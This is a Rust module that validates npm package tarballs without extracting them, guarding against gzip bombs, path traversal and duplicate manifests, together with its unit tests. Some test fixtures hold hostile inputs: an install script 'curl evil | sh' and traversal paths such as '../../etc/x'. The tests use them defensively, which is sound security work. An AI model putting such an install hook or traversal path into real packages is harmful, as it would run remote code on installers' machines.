//! Looking inside a package tarball without extracting it.

use std::cell::Cell;
use std::io::{self, Read};

use flate2::read::MultiGzDecoder;
use serde_json::{Map, Value};
use tar::EntryType;
use thiserror::Error;

use crate::display::shown;

/// Tar bytes allowed per entry on top of file contents when bounding the decompressed stream: a
/// 512-byte header, up to 511 bytes of padding, and room for a pax or GNU long-name record
/// before it. Real packages stay far below the bound, which only exists so that a stream of
/// zeros cannot be decompressed forever.
const TAR_OVERHEAD_PER_ENTRY: u64 = 4096;

/// Tar bytes allowed once per archive: the two end-of-archive blocks and padding up to tar's
/// 10 KiB record size.
const TAR_OVERHEAD_PER_ARCHIVE: u64 = 10 * 1024;

/// How much a tarball may hold. Both bounds apply while reading, before anything is buffered.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TarballLimits {
    /// The most bytes the regular files may add up to (npm's `dist.unpackedSize`).
    pub max_unpacked_bytes: u64,
    /// The most entries (files, directories, links) the archive may contain.
    pub max_entries: u64,
}

impl Default for TarballLimits {
    /// 1 GiB and 100 000 entries: far above what real packages need, low enough to bound the
    /// memory and CPU one upload can cost.
    fn default() -> Self {
        TarballLimits {
            max_unpacked_bytes: 1 << 30,
            max_entries: 100_000,
        }
    }
}

/// What [`inspect`] learned about a tarball.
#[derive(Clone, Debug, PartialEq)]
pub struct TarballInfo {
    /// The parsed `<root>/package.json`.
    pub manifest: Map<String, Value>,
    /// The number of regular files (npm's `dist.fileCount`).
    pub file_count: u64,
    /// The sum of the regular files' sizes in bytes (npm's `dist.unpackedSize`).
    pub unpacked_size: u64,
}

/// Why a tarball was refused.
#[derive(Debug, Error)]
pub enum TarballError {
    /// The bytes do not start with the gzip magic number.
    #[error("the tarball is not gzip-compressed; upload the `.tgz` file that `npm pack` makes")]
    NotGzip,
    /// Decompression failed.
    #[error("the tarball's gzip data is corrupt or truncated")]
    CorruptGzip(#[source] io::Error),
    /// The decompressed data is not a tar archive.
    #[error("the tarball does not contain a valid tar archive")]
    NotTar(#[source] io::Error),
    /// The archive has no entries at all.
    #[error("the tarball contains no files")]
    Empty,
    /// An entry's path is absolute, climbs out with `..`, or is irregular in a way tar readers
    /// disagree about (empty or inner `.` components, backslashes, NUL bytes, a file path ending
    /// in `/`).
    #[error(
        "tarball entry `{path}` has an unsafe path (absolute, or with `..`, `//`, `/./` or `\\`); `npm pack` never writes such paths"
    )]
    UnsafePath {
        /// The entry's path (escaped for display).
        path: String,
    },
    /// A pax global header sets something other than `comment`; npm's tar reader would apply it
    /// to every later entry, so what we read could differ from what npm installs.
    #[error(
        "the tarball has a pax global header {detail}, which npm's tar reader would apply to every entry; pack the package with `npm pack`"
    )]
    GlobalPaxHeader {
        /// What is wrong with it: `setting `size`` or `of 70000 bytes`.
        detail: String,
    },
    /// The archive has more entries than [`TarballLimits::max_entries`].
    #[error(
        "the tarball has more than {limit} entries; publish fewer files (see `files` in package.json and `.npmignore`)"
    )]
    TooManyEntries {
        /// The limit.
        limit: u64,
    },
    /// The files, or the decompressed stream, are larger than
    /// [`TarballLimits::max_unpacked_bytes`] allows.
    #[error(
        "the tarball unpacks to more than {limit} bytes; publish fewer or smaller files (see `files` in package.json and `.npmignore`)"
    )]
    TooLarge {
        /// The limit on unpacked bytes.
        limit: u64,
    },
    /// No entry is `<root>/package.json`.
    #[error(
        "the tarball has no `package.json` in its top-level directory; `npm pack` puts it at `package/package.json`"
    )]
    MissingPackageJson,
    /// Two entries are `<root>/package.json`, so readers could disagree about which one counts.
    #[error("the tarball has two top-level `package.json` entries, `{first}` and `{second}`")]
    MultiplePackageJson {
        /// The first entry's path (escaped for display).
        first: String,
        /// The second entry's path (escaped for display).
        second: String,
    },
    /// `<root>/package.json` is a directory, link or other non-file entry.
    #[error("tarball entry `{path}` must be a regular file")]
    PackageJsonNotAFile {
        /// The entry's path (escaped for display).
        path: String,
    },
    /// `<root>/package.json` is not JSON.
    #[error("`{path}` in the tarball is not valid JSON (line {line}, column {column})")]
    InvalidPackageJson {
        /// The entry's path (escaped for display).
        path: String,
        /// Where parsing failed, 1-based.
        line: usize,
        /// Where parsing failed, 1-based.
        column: usize,
        /// The parser's error.
        #[source]
        source: serde_json::Error,
    },
    /// `<root>/package.json` is JSON but not an object.
    #[error("`{path}` in the tarball must be a JSON object")]
    PackageJsonNotObject {
        /// The entry's path (escaped for display).
        path: String,
    },
}

/// Why reading the decompressed stream stopped early; the tar reader wraps the underlying
/// `io::Error`, so this is how we tell a gzip failure or our own limit from a tar format error.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Stop {
    Running,
    Gzip,
    Limit,
}

/// Decompresses, counting bytes, and fails once more than `remaining` bytes come out.
struct BoundedReader<'a, R> {
    inner: R,
    remaining: u64,
    stop: &'a Cell<Stop>,
}

impl<R: Read> Read for BoundedReader<'_, R> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if buf.is_empty() {
            return Ok(0);
        }
        // Ask for one byte more than allowed, so that crossing the limit is seen.
        let allowed = usize::try_from(self.remaining.saturating_add(1)).unwrap_or(usize::MAX);
        let len = buf.len().min(allowed);
        match self.inner.read(&mut buf[..len]) {
            Ok(n) => {
                let n64 = u64::try_from(n).unwrap_or(u64::MAX);
                if n64 > self.remaining {
                    self.stop.set(Stop::Limit);
                    return Err(io::Error::other("decompressed size limit exceeded"));
                }
                self.remaining -= n64;
                Ok(n)
            }
            Err(err) if err.kind() == io::ErrorKind::Interrupted => Err(err),
            Err(err) => {
                self.stop.set(Stop::Gzip);
                Err(err)
            }
        }
    }
}

/// The largest pax global header we read, in bytes; `git archive` writes one of 52 bytes.
const MAX_GLOBAL_PAX_HEADER: u64 = 64 * 1024;

/// Gunzips `gz` and walks its tar entries in memory (nothing is written anywhere) to find the
/// package's `package.json` and count its files.
///
/// What is read must be what npm installs, so where npm's readers (Node's zlib and node-tar) are
/// more lenient than the `tar` crate, this reads more rather than less: every gzip member, not
/// just the first (Node's gunzip joins them), and past zero blocks (node-tar carries on after a
/// single one); trailing garbage after the gzip data is refused rather than ignored.
///
/// The `package.json` is the entry `<root>/package.json`, where `<root>` is any single top-level
/// directory: npm pack writes `package/`, and npm's extraction strips the first path component
/// whatever it is. Refused: data that is not gzip or not tar, entries with absolute, `..` or
/// irregular paths (see [`TarballError::UnsafePath`]), pax global headers that set anything but
/// a comment, more entries or bytes than `limits` allow (decompressed bytes are counted as they
/// are read, so a gzip bomb stops at the limit), no `package.json` or more than one, and a
/// `package.json` that is not a JSON object.
pub fn inspect(gz: &[u8], limits: &TarballLimits) -> Result<TarballInfo, TarballError> {
    if !gz.starts_with(&[0x1f, 0x8b]) {
        return Err(TarballError::NotGzip);
    }
    let stream_limit = limits
        .max_unpacked_bytes
        .saturating_add(limits.max_entries.saturating_mul(TAR_OVERHEAD_PER_ENTRY))
        .saturating_add(TAR_OVERHEAD_PER_ARCHIVE);
    let stop = Cell::new(Stop::Running);
    let reader = BoundedReader {
        inner: MultiGzDecoder::new(gz),
        remaining: stream_limit,
        stop: &stop,
    };
    let read_error = |err: io::Error| match stop.get() {
        Stop::Limit => TarballError::TooLarge {
            limit: limits.max_unpacked_bytes,
        },
        Stop::Gzip => TarballError::CorruptGzip(err),
        Stop::Running => TarballError::NotTar(err),
    };

    let mut archive = tar::Archive::new(reader);
    archive.set_ignore_zeros(true);
    let mut entry_count: u64 = 0;
    let mut file_count: u64 = 0;
    let mut unpacked_size: u64 = 0;
    let mut package_json: Option<(String, Vec<u8>)> = None;
    for entry in archive.entries().map_err(read_error)? {
        let mut entry = entry.map_err(read_error)?;
        entry_count += 1;
        if entry_count > limits.max_entries {
            return Err(TarballError::TooManyEntries {
                limit: limits.max_entries,
            });
        }
        let raw_path = entry.path_bytes().into_owned();
        let entry_type = entry.header().entry_type();
        let is_file = matches!(entry_type, EntryType::Regular | EntryType::Continuous);
        let components = path_components(&raw_path)
            .filter(|_| !(is_file && raw_path.ends_with(b"/")))
            .ok_or_else(|| TarballError::UnsafePath {
                path: shown(&String::from_utf8_lossy(&raw_path)),
            })?;
        if entry_type == EntryType::XGlobalHeader {
            check_global_pax_header(&mut entry)
                .map_err(|err| err.into_tarball_error(&read_error))?;
            continue;
        }
        if is_file {
            file_count += 1;
            unpacked_size = unpacked_size
                .checked_add(entry.size())
                .filter(|&total| total <= limits.max_unpacked_bytes)
                .ok_or(TarballError::TooLarge {
                    limit: limits.max_unpacked_bytes,
                })?;
        }
        if let [_root, b"package.json"] = components.as_slice() {
            let path = shown(&String::from_utf8_lossy(&raw_path));
            if !is_file {
                return Err(TarballError::PackageJsonNotAFile { path });
            }
            if let Some((first, _)) = package_json {
                return Err(TarballError::MultiplePackageJson {
                    first,
                    second: path,
                });
            }
            // The size was checked against the limit above, so this allocation is bounded.
            let capacity = usize::try_from(entry.size()).unwrap_or(0).min(1 << 20);
            let mut data = Vec::with_capacity(capacity);
            entry.read_to_end(&mut data).map_err(read_error)?;
            package_json = Some((path, data));
        }
    }
    // Read to the end of the gzip stream, so that its CRC and length are checked and trailing
    // padding counts towards the limit, as a client's full extraction would.
    let mut reader = archive.into_inner();
    io::copy(&mut reader, &mut io::sink()).map_err(read_error)?;

    if entry_count == 0 {
        return Err(TarballError::Empty);
    }
    let Some((path, data)) = package_json else {
        return Err(TarballError::MissingPackageJson);
    };
    // npm's JSON reader skips a byte-order mark, so a package.json saved with one is fine.
    let json = data.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&data);
    let manifest = match serde_json::from_slice::<Value>(json) {
        Ok(Value::Object(manifest)) => manifest,
        Ok(_) => return Err(TarballError::PackageJsonNotObject { path }),
        Err(source) => {
            return Err(TarballError::InvalidPackageJson {
                path,
                line: source.line(),
                column: source.column(),
                source,
            });
        }
    };
    Ok(TarballInfo {
        manifest,
        file_count,
        unpacked_size,
    })
}

/// The components of an entry path (a trailing `/` dropped), or `None` when the path is unsafe:
/// absolute, with a drive letter, with a `..` component, or irregular in a way tar readers treat
/// differently. node-tar strips the first component and then resolves the rest, so `a//b`,
/// `a/./b` and (on Windows) `a\b` could land somewhere else than they seem to; we refuse them
/// instead of guessing. A leading `.` is fine: `./package.json` is what `tar -C dir .` writes, and
/// npm reads it as the root `package.json`, as we do.
fn path_components(path: &[u8]) -> Option<Vec<&[u8]>> {
    let path = path.strip_suffix(b"/").unwrap_or(path);
    let has_drive = path.len() >= 2 && path[0].is_ascii_alphabetic() && path[1] == b':';
    if path.is_empty()
        || path.starts_with(b"/")
        || has_drive
        || path.iter().any(|&b| b == b'\\' || b == 0)
    {
        return None;
    }
    let components: Vec<&[u8]> = path.split(|&b| b == b'/').collect();
    for (index, component) in components.iter().enumerate() {
        match *component {
            b"" | b".." => return None,
            b"." if index > 0 => return None,
            _ => {}
        }
    }
    Some(components)
}

/// Why a pax global header was refused: a read error (mapped like any other) or a key.
enum GlobalHeaderError {
    Read(io::Error),
    Refused(TarballError),
}

impl GlobalHeaderError {
    fn into_tarball_error(self, read_error: &impl Fn(io::Error) -> TarballError) -> TarballError {
        match self {
            GlobalHeaderError::Read(err) => read_error(err),
            GlobalHeaderError::Refused(err) => err,
        }
    }
}

/// Allows a pax global header only when it sets nothing but `comment` (as `git archive` does).
/// node-tar applies every other global key (even `size`) to all later entries, while the `tar`
/// crate ignores them, so the two would read the archive differently.
fn check_global_pax_header<R: Read>(
    entry: &mut tar::Entry<'_, R>,
) -> Result<(), GlobalHeaderError> {
    if entry.size() > MAX_GLOBAL_PAX_HEADER {
        return Err(GlobalHeaderError::Refused(TarballError::GlobalPaxHeader {
            detail: format!("of {} bytes", entry.size()),
        }));
    }
    let Some(extensions) = entry.pax_extensions().map_err(GlobalHeaderError::Read)? else {
        return Ok(());
    };
    for extension in extensions {
        let extension = extension.map_err(GlobalHeaderError::Read)?;
        if extension.key_bytes() != b"comment" {
            return Err(GlobalHeaderError::Refused(TarballError::GlobalPaxHeader {
                detail: format!(
                    "setting `{}`",
                    shown(&String::from_utf8_lossy(extension.key_bytes()))
                ),
            }));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use std::error::Error as _;

    use super::*;
    use crate::test_support::{TarEntry, gzip, tar_bytes, tgz};

    fn small_limits() -> TarballLimits {
        TarballLimits {
            max_unpacked_bytes: 64 * 1024,
            max_entries: 10,
        }
    }

    const PACKAGE_JSON: &[u8] = br#"{"name":"demo-pkg","version":"1.0.0","main":"index.js"}"#;

    #[test]
    fn reads_an_npm_style_tarball() {
        let gz = tgz(&[
            TarEntry::file("package/package.json", PACKAGE_JSON),
            TarEntry::file("package/index.js", b"module.exports = 1;\n"),
            TarEntry::file("package/lib/util.js", b"exports.x = 2;\n"),
        ]);
        let info = inspect(&gz, &TarballLimits::default()).unwrap();
        assert_eq!(info.manifest["name"], "demo-pkg");
        assert_eq!(info.manifest["version"], "1.0.0");
        assert_eq!(info.file_count, 3);
        let expected = PACKAGE_JSON.len() + 20 + 15;
        assert_eq!(info.unpacked_size, u64::try_from(expected).unwrap());
    }

    #[test]
    fn accepts_any_root_directory_and_directory_entries() {
        let gz = tgz(&[
            TarEntry::dir("node/"),
            TarEntry::file("node/index.js", b"x"),
            TarEntry::file("node/package.json", b"\xEF\xBB\xBF{\"name\":\"a\"}"),
            TarEntry::file(
                "package.json",
                b"not the manifest: it has no root directory",
            ),
            TarEntry::file("node/sub/package.json", b"nested: not the manifest either"),
        ]);
        let info = inspect(&gz, &small_limits()).unwrap();
        assert_eq!(info.manifest["name"], "a");
        assert_eq!(info.file_count, 4);
    }

    #[test]
    fn a_dot_root_is_a_root_like_any_other() {
        // `tar -C dir -czf x.tgz .` writes `./package.json`; npm strips the `.` and finds it.
        let gz = tgz(&[
            TarEntry::dir("./"),
            TarEntry::file("./package.json", PACKAGE_JSON),
            TarEntry::file(
                "./package/package.json",
                b"not the manifest: npm sees package/package.json",
            ),
        ]);
        let info = inspect(&gz, &small_limits()).unwrap();
        assert_eq!(info.manifest["name"], "demo-pkg");
        assert_eq!(info.file_count, 2);
    }

    #[test]
    fn refuses_data_that_is_not_gzip() {
        let tar = tar_bytes(&[TarEntry::file("package/package.json", PACKAGE_JSON)]);
        assert!(matches!(
            inspect(&tar, &small_limits()),
            Err(TarballError::NotGzip)
        ));
        assert!(matches!(
            inspect(b"", &small_limits()),
            Err(TarballError::NotGzip)
        ));
    }

    #[test]
    fn refuses_corrupt_gzip() {
        let mut gz = tgz(&[TarEntry::file("package/package.json", PACKAGE_JSON)]);
        let truncated = &gz[..gz.len() / 2];
        let err = inspect(truncated, &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::CorruptGzip(_)), "{err:?}");
        assert!(err.source().is_some());

        // Flip a byte of the CRC-32 in the trailer: only reading to the end notices.
        let crc = gz.len() - 8;
        gz[crc] ^= 0xff;
        let err = inspect(&gz, &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::CorruptGzip(_)), "{err:?}");
    }

    #[test]
    fn refuses_gzip_that_is_not_tar() {
        let err = inspect(&gzip(&[b'x'; 2000]), &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::NotTar(_)), "{err:?}");
        let err = inspect(&gzip(b"hello"), &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::NotTar(_)), "{err:?}");
        let err = inspect(&gzip(b""), &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::Empty), "{err:?}");
    }

    #[test]
    fn refuses_unsafe_paths() {
        for path in [
            "package/../../etc/x",
            "../package.json",
            "package/..",
            "/etc/passwd",
            "\\windows\\system32",
            "package\\..\\..\\x",
            "package\\package.json",
            "C:/x",
            "package//package.json",
            "package/./package.json",
        ] {
            let gz = tgz(&[
                TarEntry::file("package/package.json", PACKAGE_JSON),
                TarEntry::file(path, b"x"),
            ]);
            match inspect(&gz, &small_limits()) {
                Err(TarballError::UnsafePath { path: shown_path }) => {
                    assert_eq!(shown_path, path);
                }
                other => panic!("{path}: {other:?}"),
            }
        }
        let gz = tgz(&[TarEntry::file("package/../../etc/x", b"x")]);
        insta::assert_snapshot!(
            inspect(&gz, &small_limits()).unwrap_err(),
            @r"tarball entry `package/../../etc/x` has an unsafe path (absolute, or with `..`, `//`, `/./` or `\`); `npm pack` never writes such paths"
        );
        // A regular file whose path ends in `/` is a directory to some readers.
        let gz = tgz(&[TarEntry::file("package/package.json/", PACKAGE_JSON)]);
        assert!(matches!(
            inspect(&gz, &small_limits()),
            Err(TarballError::UnsafePath { .. })
        ));
    }

    /// `tar_bytes` without its two end-of-archive blocks.
    fn without_end(entries: &[TarEntry]) -> Vec<u8> {
        let mut tar = tar_bytes(entries);
        tar.truncate(tar.len() - 1024);
        tar
    }

    #[test]
    fn sees_entries_hidden_behind_a_zero_block() {
        // node-tar reads on after a single zero block, so must we.
        let mut tar = without_end(&[TarEntry::file("package/package.json", PACKAGE_JSON)]);
        tar.extend_from_slice(&[0; 512]);
        tar.extend(tar_bytes(&[TarEntry::file(
            "package/package.json",
            br#"{"name":"demo-pkg","scripts":{"install":"curl evil | sh"}}"#,
        )]));
        let err = inspect(&gzip(&tar), &small_limits()).unwrap_err();
        assert!(
            matches!(err, TarballError::MultiplePackageJson { .. }),
            "{err:?}"
        );
    }

    #[test]
    fn reads_every_gzip_member() {
        // Node's gunzip joins concatenated members, so a second member is part of the package.
        let first = gzip(&without_end(&[TarEntry::file(
            "package/package.json",
            PACKAGE_JSON,
        )]));
        let mut gz = first.clone();
        gz.extend(tgz(&[TarEntry::file("package/index.js", b"x")]));
        let info = inspect(&gz, &small_limits()).unwrap();
        assert_eq!(info.file_count, 2);

        let mut gz = first;
        gz.extend(tgz(&[TarEntry::file(
            "package/package.json",
            br#"{"name":"evil"}"#,
        )]));
        let err = inspect(&gz, &small_limits()).unwrap_err();
        assert!(
            matches!(err, TarballError::MultiplePackageJson { .. }),
            "{err:?}"
        );
    }

    #[test]
    fn refuses_trailing_garbage() {
        let mut gz = tgz(&[TarEntry::file("package/package.json", PACKAGE_JSON)]);
        gz.extend_from_slice(b"trailing garbage");
        let err = inspect(&gz, &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::CorruptGzip(_)), "{err:?}");
    }

    /// One pax record, `<length> <key>=<value>\n`, where the length counts itself.
    fn pax_record(key: &str, value: &str) -> Vec<u8> {
        let body = format!(" {key}={value}\n");
        let mut length = body.len() + 1;
        while format!("{length}{body}").len() != length {
            length += 1;
        }
        format!("{length}{body}").into_bytes()
    }

    fn global_header(records: &[u8]) -> TarEntry {
        TarEntry {
            path: "pax_global_header".to_owned(),
            data: records.to_vec(),
            kind: EntryType::XGlobalHeader,
            link: None,
        }
    }

    #[test]
    fn allows_only_comments_in_pax_global_headers() {
        // What `git archive` writes.
        let comment = pax_record("comment", "0123456789abcdef0123456789abcdef01234567");
        let gz = tgz(&[
            global_header(&comment),
            TarEntry::file("package/package.json", PACKAGE_JSON),
        ]);
        let info = inspect(&gz, &small_limits()).unwrap();
        assert_eq!(info.file_count, 1);

        let mut records = comment;
        records.extend(pax_record("size", "0"));
        let gz = tgz(&[
            global_header(&records),
            TarEntry::file("package/package.json", PACKAGE_JSON),
        ]);
        insta::assert_snapshot!(
            inspect(&gz, &small_limits()).unwrap_err(),
            @"the tarball has a pax global header setting `size`, which npm's tar reader would apply to every entry; pack the package with `npm pack`"
        );
    }

    #[test]
    fn refuses_missing_or_duplicate_package_json() {
        let gz = tgz(&[TarEntry::file("package/index.js", b"x")]);
        assert!(matches!(
            inspect(&gz, &small_limits()),
            Err(TarballError::MissingPackageJson)
        ));
        let gz = tgz(&[
            TarEntry::file("package/package.json", PACKAGE_JSON),
            TarEntry::file("other/package.json", br#"{"name":"evil"}"#),
        ]);
        insta::assert_snapshot!(
            inspect(&gz, &small_limits()).unwrap_err(),
            @"the tarball has two top-level `package.json` entries, `package/package.json` and `other/package.json`"
        );
        let gz = tgz(&[TarEntry::dir("package/package.json/")]);
        assert!(matches!(
            inspect(&gz, &small_limits()),
            Err(TarballError::PackageJsonNotAFile { .. })
        ));
    }

    #[test]
    fn refuses_package_json_that_is_not_an_object() {
        let gz = tgz(&[TarEntry::file("package/package.json", b"[1, 2]")]);
        assert!(matches!(
            inspect(&gz, &small_limits()),
            Err(TarballError::PackageJsonNotObject { .. })
        ));
        let gz = tgz(&[TarEntry::file("package/package.json", b"{\n  \"name\": }")]);
        let err = inspect(&gz, &small_limits()).unwrap_err();
        assert!(err.source().is_some());
        insta::assert_snapshot!(
            err,
            @"`package/package.json` in the tarball is not valid JSON (line 2, column 11)"
        );
    }

    #[test]
    fn refuses_too_many_entries() {
        let mut entries = vec![TarEntry::file("package/package.json", PACKAGE_JSON)];
        for i in 0..10 {
            entries.push(TarEntry::file(&format!("package/{i}.js"), b"x"));
        }
        let err = inspect(&tgz(&entries), &small_limits()).unwrap_err();
        assert!(
            matches!(err, TarballError::TooManyEntries { limit: 10 }),
            "{err:?}"
        );
        entries.pop();
        inspect(&tgz(&entries), &small_limits()).unwrap();
    }

    #[test]
    fn refuses_files_over_the_size_limit() {
        let big = vec![b'a'; 64 * 1024];
        let gz = tgz(&[
            TarEntry::file("package/package.json", PACKAGE_JSON),
            TarEntry::file("package/big.txt", &big),
        ]);
        let err = inspect(&gz, &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::TooLarge { .. }), "{err:?}");
        insta::assert_snapshot!(
            err,
            @"the tarball unpacks to more than 65536 bytes; publish fewer or smaller files (see `files` in package.json and `.npmignore`)"
        );
    }

    #[test]
    fn stops_decompressing_a_gzip_bomb() {
        // A small, valid tar followed by 8 MiB of zeros: tiny compressed, huge decompressed.
        let mut tar = tar_bytes(&[TarEntry::file("package/package.json", PACKAGE_JSON)]);
        tar.resize(tar.len() + 8 * 1024 * 1024, 0);
        let gz = gzip(&tar);
        assert!(gz.len() < 64 * 1024, "the bomb should compress well");
        let err = inspect(&gz, &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::TooLarge { .. }), "{err:?}");
        // With generous limits the same bytes are an acceptable (if odd) tarball.
        let info = inspect(&gz, &TarballLimits::default()).unwrap();
        assert_eq!(info.file_count, 1);
    }

    #[test]
    fn stops_at_a_huge_non_file_entry() {
        // A directory entry claiming 8 MiB of data: skipping it still decompresses those bytes.
        let mut entry = TarEntry::dir("package/dir/");
        entry.data = vec![0; 8 * 1024 * 1024];
        let gz = tgz(&[TarEntry::file("package/package.json", PACKAGE_JSON), entry]);
        let err = inspect(&gz, &small_limits()).unwrap_err();
        assert!(matches!(err, TarballError::TooLarge { .. }), "{err:?}");
    }

    #[test]
    fn counts_only_regular_files() {
        let gz = tgz(&[
            TarEntry::dir("package/"),
            TarEntry::file("package/package.json", PACKAGE_JSON),
            TarEntry::symlink("package/link", "index.js"),
            TarEntry::file("package/index.js", b"12345"),
        ]);
        let info = inspect(&gz, &small_limits()).unwrap();
        assert_eq!(info.file_count, 2);
        assert_eq!(
            info.unpacked_size,
            u64::try_from(PACKAGE_JSON.len() + 5).unwrap()
        );
    }

    #[test]
    fn path_components_table() {
        let ok: &[(&str, &[&str])] = &[
            ("package/package.json", &["package", "package.json"]),
            ("./package/a", &[".", "package", "a"]),
            ("./package.json", &[".", "package.json"]),
            ("./", &["."]),
            ("package/", &["package"]),
            ("a..b/c", &["a..b", "c"]),
            ("pax_global_header", &["pax_global_header"]),
        ];
        for (path, expected) in ok {
            let components = path_components(path.as_bytes()).unwrap();
            let expected: Vec<&[u8]> = expected.iter().map(|c| c.as_bytes()).collect();
            assert_eq!(components, expected, "{path}");
        }
        for path in [
            "", "/", "//", "/a", "\\a", "a\\b", "a/../b", "..", "../", "a/..", "c:\\x", "Z:x",
            "a//b", "a/./b", "a/.", "a\0b",
        ] {
            assert!(path_components(path.as_bytes()).is_none(), "{path:?}");
        }
    }
}
